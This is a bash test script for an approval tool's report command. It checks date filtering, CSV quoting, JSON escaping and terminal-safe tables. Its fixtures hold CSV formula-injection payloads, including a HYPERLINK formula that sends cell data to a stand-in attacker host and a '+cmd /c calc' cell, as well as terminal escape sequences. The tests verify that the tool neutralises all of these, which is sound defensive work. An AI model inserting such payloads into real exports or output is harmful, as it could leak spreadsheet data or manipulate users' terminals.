#!/bin/bash
# approvalctl report: period filtering, RFC 4180 CSV with formula cells
# neutralised, JSON with control characters escaped, a terminal-safe table
# (issue 4, items 5 and 7).
. "$SRCDIR/tests/sql/lib.sh"
: "${APPROVALCTL:?}"

ctl() { "$APPROVALCTL" --database "$PG_AUDITOR_CONNINFO" "$@"; }

fixture_people
pg_psql -c "UPDATE approval.report_settings SET time_zone = 'Europe/Berlin'" >/dev/null
# CSV-001: every hostile cell; CSV-002 another day; CSV-003 DEL and C1.
{
	req_sql CSV-001 web1 dev1 '2025-03-03 08:30:00+01'
	req_sql CSV-002 web1 dev2 '2025-03-05 10:00:00+01'
	req_sql CSV-003 db1 dev3 '2025-03-06 10:00:00+01'
	cat <<-'SQL'
	UPDATE approval.requests SET
	    command = '=HYPERLINK("http://evil.example/?x="&A1,"click")',
	    sudo_command = '-2+3', reason = E'needs, "quotes"\nand a newline',
	    ticket = '@SUM(1+1)', hostname = E'\tweb1', requester = E'\rdev1'
	 WHERE code = 'CSV-001';
	SQL
} | pg_psql -c "ALTER TABLE approval.requests DISABLE TRIGGER requests_guard" -f - >/dev/null
pg_psql -c "ALTER TABLE approval.requests ENABLE TRIGGER requests_guard" >/dev/null
app_psql >/dev/null <<-'SQL'
UPDATE approval.requests SET status = 'denied', decided_by = (SELECT id FROM approval.approvers WHERE login = 'bob'),
    decided_at = created_at + interval '90 seconds', decision_comment = '+cmd /c calc, "now"' WHERE code = 'CSV-001';
UPDATE approval.requests SET status = 'denied', decided_by = (SELECT id FROM approval.approvers WHERE login = 'bob'),
    decided_at = created_at + interval '5 seconds', decision_comment = E'del\x7f c1\u009b[31m esc\u001b[0m' WHERE code = 'CSV-003';
UPDATE approval.requests SET status = 'expired', decided_at = created_at + interval '600 seconds' WHERE code = 'CSV-002';
SQL
id1=$(pg_psql -c "SELECT id FROM approval.requests WHERE code = 'CSV-001'")

# CSV: exact bytes, CRLF records, quoting and neutralising.
got=$(ctl report denied --from 2025-03-03 --to 2025-03-03 --format csv | od -An -c | tr -s ' ')
want=$(printf '%s\r\n' \
	'day,created_at,decided_at,request_id,code,host,hostname,requester,requester_uid,target_user,service,command,sudo_command,reason,ticket,decided_by,decision_comment,decision_latency_seconds' \
	"2025-03-03,2025-03-03 07:30:00+00,2025-03-03 07:31:30+00,$id1,CSV-001,web1,'	web1,\"'$(printf '\r')dev1\",1000,root,sudo,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'-2+3,\"needs, \"\"quotes\"\"
and a newline\",'@SUM(1+1),bob,\"'+cmd /c calc, \"\"now\"\"\",90.000" | od -An -c | tr -s ' ')
assert_eq "$want" "$got" "CSV quoting and formula neutralising (bytes)"

# The same CSV read back by a real CSV parser gives the neutralised values.
if command -v python3 >/dev/null; then
	got=$(ctl report denied --from 2025-03-03 --to 2025-03-03 --format csv | python3 -c '
import csv, sys
rows = list(csv.reader(sys.stdin, strict=True))
print(len(rows), repr(rows[1][11]), repr(rows[1][13]), repr(rows[1][7]), repr(rows[1][16]))')
	assert_eq "2 '\\'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' 'needs, \"quotes\"\\nand a newline' \"'\\rdev1\" '\\'+cmd /c calc, \"now\"'" "$got" "CSV parses back"
fi

# Numbers are not neutralised, NULL is an empty field.
got=$(ctl report elevations --format csv | grep CSV-002 | tr -d '\r' | awk -F, '{print $6 "|" $10 "|" $20 "|" $21 "|" $23}')
assert_eq "CSV-002|1000|expired||" "$got" "numbers and NULL in CSV"

# Period: inclusive days in the report time zone (CSV-001 is 2025-03-03
# 08:30 in Berlin, 07:30 UTC).
got=$(ctl report elevations --from 2025-03-03 --to 2025-03-05 --format json | jq -r '.[].code' | tr '\n' ' ')
assert_eq "CSV-001 CSV-002 " "$got" "period filter"
got=$(ctl report elevations --from 2025-03-06 --format json | jq -r '.[].code' | tr '\n' ' ')
assert_eq "CSV-003 " "$got" "open-ended period"
got=$(ctl report elevations --to 2025-03-02 --format json)
assert_eq "[]" "$got" "empty period is an empty array"

# JSON: exact values, DEL and C1 escaped, no raw control bytes.
got=$(ctl report denied --format json | jq -r '.[0] | [.command, .reason, .decided_by, (.decision_latency_seconds|tostring), .created_at] | join("|")')
assert_eq '=HYPERLINK("http://evil.example/?x="&A1,"click")|needs, "quotes"
and a newline|bob|90|2025-03-03T07:30:00+00:00' "$got" "JSON values"
raw=$(ctl report denied --format json)
printf '%s' "$raw" | grep -q 'del\\u007f c1\\u009b\[31m esc\\u001b\[0m' || fail "JSON controls not escaped: $raw"
if printf '%s' "$raw" | LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')"; then
	fail "raw control bytes in JSON output"
fi
printf '%s' "$raw" | jq -e 'length == 2' >/dev/null || fail "JSON does not parse"
ok "JSON escapes control characters"

# Table: sanitised (no ESC, DEL or C1 reaches the terminal).
table=$(ctl report denied)
printf '%s\n' "$table" | head -n 1 | grep -q '^day  *created_at  *decided_at' || fail "table header: $table"
if printf '%s' "$table" | LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')\|$(printf '\302\233')"; then
	fail "raw control bytes in table output"
fi
assert_eq "3" "$(printf '%s\n' "$table" | wc -l)" "table rows"
assert_eq "no rows" "$(ctl report auto_allowed)" "empty table"

# Every report runs in every format for the auditor.
for r in elevations decision_latency denied expired_unanswered self_approval_attempts \
	approver_activity after_hours auto_allowed notification_failures host_silence report_elevations; do
	for f in csv json table; do
		ctl report "$r" --from 2025-01-01 --to 2025-12-31 --format "$f" >/dev/null ||
			fail "report $r --format $f failed"
	done
done
ok "every report in every format"
got=$(ctl report host_silence --from 2025-03-01 --to 2025-03-31 --format json | jq -r '.[] | "\(.host) \(.ongoing)"' | sort | tr '\n' ' ')
assert_eq "db1 false db1 true web1 false web1 true " "$got" "host silences overlapping March"

# Usage errors (exit 2) and a role without access (exit 1).
for args in "nosuch" "elevations --from 2025-13-01" "elevations --from 2025-03-02 --to 2025-03-01" \
	"elevations --format xml" "elevations extra"; do
	rc=0; ctl report $args >/dev/null 2>&1 || rc=$?
	assert_eq "2" "$rc" "usage error: report $args"
done
pg_psql -c "CREATE ROLE nobody LOGIN" >/dev/null
rc=0; "$APPROVALCTL" --database "host=$PGSOCKDIR port=$PGPORT_TEST dbname=$PG_DBNAME user=nobody" \
	report elevations >/dev/null 2>&1 || rc=$?
assert_eq "1" "$rc" "no access: refused"
finish
